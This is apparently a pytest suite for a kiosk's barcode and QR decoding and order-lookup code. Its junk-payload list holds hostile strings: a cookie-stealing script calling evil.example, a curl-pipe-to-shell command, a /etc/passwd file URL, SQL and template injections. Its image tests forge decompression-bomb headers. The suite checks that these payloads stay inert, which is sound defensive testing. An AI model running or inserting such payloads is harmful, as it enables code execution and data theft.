"""Barcodes/QR (zxing-cpp) found in photos the way a kiosk camera sees them, resolved against the real
catalog and demo orders, junk payloads, bad frames, and ``load_image``'s refusals."""

from __future__ import annotations

import csv
import dataclasses
import os
import socket
import struct
import subprocess
import webbrowser
from pathlib import Path

import cv2
import numpy as np
import pytest
import zxingcpp

from device.camera import Frame
from runtime.errors import InputError
from runtime.vision import (
    MAX_PAYLOAD_CHARS,
    Code,
    OrderCode,
    ProductCode,
    UnknownCode,
    as_bgr,
    as_gray,
    clean_payload,
    decode,
    load_image,
    resolve,
)

KB_DIR = Path(__file__).resolve().parents[2] / "data" / "kb"
F = zxingcpp.BarcodeFormat


@pytest.fixture(scope="module")
def order_ids() -> list[str]:
    with open(KB_DIR / "orders.csv", newline="", encoding="utf-8") as f:
        return [r["order_id"] for r in csv.DictReader(f)]


def symbol(content, fmt, scale=3) -> np.ndarray:
    """The code as a gray image with its quiet zone, as zxing-cpp 3.x writes it."""
    return np.asarray(zxingcpp.write_barcode_to_image(zxingcpp.create_barcode(content, fmt), scale=scale))


def photo(code: np.ndarray, background: np.ndarray | None = None, *, angle=0.0, scale=1.0, at=(0.5, 0.5),
          blur=0.0, noise=0.0, rng=None, invert=False) -> np.ndarray:
    """Paste ``code`` into a 640x480 BGR photo, rotated and scaled, then blur and add sensor noise."""
    bg = np.full((480, 640, 3), 200, np.uint8) if background is None else cv2.resize(background, (640, 480))
    c = 255 - code if invert else code
    h, w = c.shape
    m = cv2.getRotationMatrix2D((w / 2, h / 2), angle, scale)
    cos, sin = abs(m[0, 0]), abs(m[0, 1])
    nw, nh = int(h * sin + w * cos), int(h * cos + w * sin)
    m[0, 2] += nw / 2 - w / 2
    m[1, 2] += nh / 2 - h / 2
    fill = 0 if invert else 255
    patch = cv2.warpAffine(c, m, (nw, nh), flags=cv2.INTER_LINEAR, borderValue=fill)
    mask = cv2.warpAffine(np.full_like(c, 255), m, (nw, nh), flags=cv2.INTER_NEAREST, borderValue=0) > 0
    assert nw <= 640 and nh <= 480, "code too large for the frame"
    x0 = int(at[0] * (640 - nw))
    y0 = int(at[1] * (480 - nh))
    roi = bg[y0 : y0 + nh, x0 : x0 + nw]
    roi[mask] = patch[mask][:, None]
    out = bg
    if blur:
        out = cv2.GaussianBlur(out, (0, 0), blur)
    if noise:
        rng = rng or np.random.default_rng(0)
        out = np.clip(out.astype(np.float32) + rng.normal(0, noise, out.shape), 0, 255).astype(np.uint8)
    return out


# ------------------------------------------------------------------------------------ products


def test_every_catalog_ean_in_a_product_photo_resolves_to_its_product(kb):
    rng = np.random.default_rng(7)
    misses = []
    for p in kb.products:
        shot = photo(symbol(p.ean13, F.EAN13, scale=2), load_image(KB_DIR / "images" / p.image),
                     angle=float(rng.uniform(-20, 20)), scale=float(rng.uniform(0.9, 1.3)),
                     at=tuple(rng.uniform(0.1, 0.9, 2)), blur=float(rng.uniform(0, 0.8)), noise=6, rng=rng)
        codes = [c for c in decode(shot) if c.format == "EAN-13"]
        hits = [resolve(c, kb) for c in codes]
        if not (len(hits) == 1 and isinstance(hits[0], ProductCode) and hits[0].product.id == p.id):
            misses.append((p.id, codes))
    assert len(kb.products) >= 80
    assert not misses


def test_position_is_where_the_code_is(kb):
    p = kb.products[3]
    shot = photo(symbol(p.ean13, F.EAN13, scale=2), at=(0.0, 0.0))  # top-left corner of the frame
    (code,) = decode(shot)
    x, y, w, h = code.box
    assert x < 80 and y < 80 and w > 100 and 30 < h < 200
    assert len(code.position) == 4 and all(len(pt) == 2 for pt in code.position)


def test_vertical_and_upside_down_barcodes(kb):
    p = kb.products[10]
    for angle in (90, 180, 270):
        (code,) = decode(photo(symbol(p.ean13, F.EAN13, scale=2), angle=angle))
        assert resolve(code, kb).product.id == p.id


def test_upc_a_resolves_through_its_ean13_form(kb):
    product = dataclasses.replace(kb.products[0], ean13="0036000291452")
    (code,) = decode(photo(symbol("036000291452", F.UPCA)))
    assert code.format in ("UPC-A", "EAN-13")
    hit = resolve(code, [product])
    assert isinstance(hit, ProductCode) and hit.product is product


def test_ean8_and_unknown_ean13_are_not_in_catalog(kb):
    (ean8,) = decode(photo(symbol("96385074", F.EAN8)))
    assert ean8.format == "EAN-8"
    assert resolve(ean8, kb) == UnknownCode(ean8, "not in catalog")
    (ean13,) = decode(photo(symbol("4006381333931", F.EAN13)))
    assert resolve(ean13, kb).reason == "not in catalog"
    assert resolve(ean13, None).reason == "not in catalog"


# -------------------------------------------------------------------------------------- orders


def test_order_qr_on_a_dark_phone_screen(orders, order_ids):
    oid = order_ids[0]
    phone = np.full((480, 640, 3), (35, 28, 24), np.uint8)
    shot = photo(symbol(f"Order #{oid}", F.QRCode, scale=4), phone, angle=12, blur=0.7, noise=5, invert=True)
    (code,) = decode(shot)
    assert code.format == "QR" and code.text == f"Order #{oid}"
    hit = resolve(code, None, orders)
    assert isinstance(hit, OrderCode) and hit.order_id == oid and hit.order.order_id == oid


@pytest.mark.parametrize("fmt, name", [(F.Code128, "Code128"), (F.DataMatrix, "DataMatrix"), (F.QRCode, "QR")])
def test_order_number_in_text_codes(fmt, name, orders, order_ids):
    oid = order_ids[1]
    (code,) = decode(photo(symbol(oid, fmt, scale=3), angle=-8, noise=4))
    assert code.format == name
    hit = resolve(code, None, orders)
    assert isinstance(hit, OrderCode) and hit.order_id == oid and hit.order is not None


def test_leading_zeros_are_kept_and_unknown_orders_still_carry_the_id(orders):
    (code,) = decode(photo(symbol("ORDER:000012345678", F.QRCode)))
    hit = resolve(code, None, orders)
    assert isinstance(hit, OrderCode) and hit.order_id == "000012345678" and hit.order is None
    assert resolve(code, None, lambda oid: {"id": oid}).order == {"id": "000012345678"}
    assert resolve(code).order_id == "000012345678"


# ---------------------------------------------------------------------------------- junk payloads


@pytest.fixture
def nothing_may_escape(monkeypatch):
    """Fail the test if decoding or resolving a payload reaches for the network, a browser or a shell."""

    def refuse(*a, **k):
        raise AssertionError(f"a payload was acted on: {a!r}")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    monkeypatch.setattr(webbrowser, "open", refuse)
    monkeypatch.setattr(subprocess, "Popen", refuse)
    monkeypatch.setattr(os, "system", refuse)


JUNK = [
    "https://evil.example/orders/113542617735902",
    "http://192.168.0.1/admin?cmd=reboot",
    "file:///etc/passwd",
    "<script>fetch('//evil.example/'+document.cookie)</script>",
    "javascript:alert(1)",
    "'; DROP TABLE orders; -- 113542617735902 113542617735903",
    "$(curl evil.example | sh)",
    "{{7*7}} __import__('os').system('id')",
    "WIFI:T:WPA;S:shop;P:hunter2;;",
    "Order #INV-2023",
]


@pytest.mark.parametrize("payload", JUNK)
def test_junk_qr_payloads_are_inert_unknowns(payload, orders, kb, nothing_may_escape):
    (code,) = decode(photo(symbol(payload, F.QRCode, scale=3)))
    assert code.text == payload  # kept as data, verbatim (it was clean text)
    hit = resolve(code, kb, orders)
    assert isinstance(hit, UnknownCode) and hit.reason == "no order number"


def test_control_and_bidi_characters_are_stripped(orders, nothing_may_escape):
    payload = "Order\x00 #\x1b[2J113542617735902\u202e\u2066\r\n"
    (code,) = decode(photo(symbol(payload, F.QRCode)))
    assert code.text == "Order #[2J113542617735902"
    assert not any(ch in code.text for ch in "\x00\x1b\u202e\u2066\r\n")
    # what is left is still only data; it does not become an order number by accident
    assert isinstance(resolve(code, None, orders), UnknownCode)


def test_binary_qr_is_flagged_and_capped(nothing_may_escape):
    blob = np.random.default_rng(1).integers(0, 256, 2900, dtype=np.uint8).tobytes()  # about a full version-40 QR
    (code,) = decode(photo(symbol(blob, F.QRCode, scale=2)))
    assert code.binary and code.truncated and len(code.text) <= MAX_PAYLOAD_CHARS
    assert all(ch.isprintable() or ch == " " for ch in code.text)
    assert resolve(code) == UnknownCode(code, "binary payload")


def test_long_text_qr_is_truncated_and_not_resolved():
    (code,) = decode(photo(symbol("Order #113542617735902 " + "A" * 1500, F.QRCode, scale=2)))
    assert code.truncated and len(code.text) == MAX_PAYLOAD_CHARS
    assert resolve(code).reason == "payload too long"


def test_unicode_payloads(orders):
    (code,) = decode(photo(symbol("注文番号 732201349959 ✓", F.QRCode)))
    assert code.text == "注文番号 732201349959 ✓"
    assert resolve(code, None, orders).order_id == "732201349959"
    (code,) = decode(photo(symbol("Cafe\u0301 ☕", F.QRCode)))
    assert code.text == "Café ☕"  # NFC: one code point per letter, as the rest of the kiosk compares text
    assert resolve(code).reason == "no order number"


def test_clean_payload():
    assert clean_payload(b"\xff\xfeabc\x00def") == ("\ufffd\ufffdabcdef", False)
    assert clean_payload("  a\t\tb\n ") == ("a b", False)
    text, cut = clean_payload(b"x" * 4096)
    assert cut and text == "x" * MAX_PAYLOAD_CHARS
    text, cut = clean_payload("y" * 10**6)
    assert cut and len(text) == MAX_PAYLOAD_CHARS
    assert clean_payload("\u200bzero\u200dwidth\ufeff") == ("zerowidth", False)


def test_resolve_never_treats_malformed_retail_text_as_a_product(kb):
    code = Code("EAN-13", "21420000000x5", ((0, 0),) * 4)
    assert resolve(code, kb).reason == "malformed retail code"


# ------------------------------------------------------------------------------------ bad frames


@pytest.mark.parametrize("frame", [np.zeros((480, 640, 3), np.uint8), np.full((480, 640, 3), 255, np.uint8),
                                   np.full((480, 640), 128, np.uint8), np.zeros((1, 1), np.uint8)])
def test_black_blank_and_tiny_frames_have_no_codes(frame):
    assert decode(frame) == []


def test_noise_and_product_photos_have_no_codes(kb):
    rng = np.random.default_rng(3)
    assert decode(rng.integers(0, 256, (480, 640, 3), dtype=np.uint8)) == []
    for p in kb.products[:20]:
        assert decode(load_image(KB_DIR / "images" / p.image)) == []


def test_frame_objects_gray_and_bgra_inputs(kb):
    p = kb.products[5]
    shot = photo(symbol(p.ean13, F.EAN13, scale=2))
    want = [p.ean13]
    shot.flags.writeable = False  # as the camera hands frames out
    assert [c.text for c in decode(Frame(0.0, shot, 1))] == want
    assert [c.text for c in decode(cv2.cvtColor(shot, cv2.COLOR_BGR2GRAY))] == want
    assert [c.text for c in decode(cv2.cvtColor(shot, cv2.COLOR_BGR2BGRA))] == want
    assert [c.text for c in decode(shot[:, ::-1][:, ::-1])] == want  # non-contiguous view


@pytest.mark.parametrize(
    "frame, words",
    [
        (None, "None"),
        ("photo.jpg", "numpy image array"),
        (np.zeros((480, 640, 3), np.float32), "dtype float32"),
        (np.zeros((3, 480, 640, 1), np.uint8), "shape"),
        (np.zeros((480, 640, 2), np.uint8), "shape"),
        (np.zeros((0, 640, 3), np.uint8), "empty"),
        (np.zeros((7000, 7000), np.uint8), "MP"),
    ],
)
def test_unusable_frames_raise_input_error(frame, words):
    with pytest.raises(InputError, match=words):
        decode(frame)


def test_as_bgr_and_as_gray_conversions():
    g = np.arange(12, dtype=np.uint8).reshape(3, 4)
    assert as_bgr(g).shape == (3, 4, 3) and (as_bgr(g)[..., 1] == g).all()
    assert as_gray(g[..., None]).shape == (3, 4)
    deep = (g.astype(np.uint16) << 8)
    assert (as_gray(deep) == g).all()
    src = np.zeros((4, 4, 3), np.uint8)
    assert as_bgr(src) is src  # no copy on the hot path: a camera frame is already BGR uint8
    view = src[:, ::2]
    assert as_bgr(view).flags.c_contiguous and as_bgr(view).shape == (4, 2, 3)


# ---------------------------------------------------------------------------------------- load_image


def test_load_image_reads_catalog_photos(kb):
    img = load_image(KB_DIR / "images" / kb.products[0].image)
    assert img.dtype == np.uint8 and img.ndim == 3 and img.shape[2] == 3


def _png(w, h) -> bytes:
    return cv2.imencode(".png", np.zeros((h, w), np.uint8))[1].tobytes()


def test_load_image_refuses_huge_images_before_decoding(tmp_path):
    data = bytearray(_png(16, 16))
    data[16:24] = struct.pack(">II", 20000, 20000)  # header now claims 400 MP: a decompression bomb
    bomb = tmp_path / "bomb.png"
    bomb.write_bytes(bytes(data))
    with pytest.raises(InputError, match="400 MP, more than the 40 MP"):
        load_image(bomb)
    jpg = bytearray(cv2.imencode(".jpg", np.zeros((16, 16, 3), np.uint8))[1].tobytes())
    sof = jpg.index(b"\xff\xc0")
    jpg[sof + 5 : sof + 9] = struct.pack(">HH", 9000, 9000)
    (tmp_path / "bomb.jpg").write_bytes(bytes(jpg))
    with pytest.raises(InputError, match="81 MP"):
        load_image(tmp_path / "bomb.jpg")
    (tmp_path / "ok.png").write_bytes(_png(3000, 2000))
    assert load_image(tmp_path / "ok.png").shape == (2000, 3000, 3)
    with pytest.raises(InputError, match="5 MP allowed"):
        load_image(tmp_path / "ok.png", max_pixels=5_000_000)


def test_load_image_refuses_what_is_not_an_image(tmp_path):
    with pytest.raises(InputError, match="not found"):
        load_image(tmp_path / "missing.jpg")
    with pytest.raises(InputError, match="not a file"):
        load_image(tmp_path)
    (tmp_path / "fake.jpg").write_text("<html>not a photo</html>")
    with pytest.raises(InputError, match="not a JPEG, PNG or BMP"):
        load_image(tmp_path / "fake.jpg")
    (tmp_path / "anim.gif").write_bytes(b"GIF89a" + b"\x00" * 100)
    with pytest.raises(InputError, match="not a JPEG, PNG or BMP"):
        load_image(tmp_path / "anim.gif")
    png = _png(64, 64)
    (tmp_path / "cut.png").write_bytes(png[: len(png) // 2])
    with pytest.raises(InputError, match="could not be decoded"):
        load_image(tmp_path / "cut.png")
    (tmp_path / "empty.png").write_bytes(b"")
    with pytest.raises(InputError, match="not a JPEG"):
        load_image(tmp_path / "empty.png")
    (tmp_path / "big.jpg").write_bytes(b"\xff\xd8\xff" + b"\x00" * 2048)
    with pytest.raises(InputError, match="MB"):
        load_image(tmp_path / "big.jpg", max_bytes=1024)
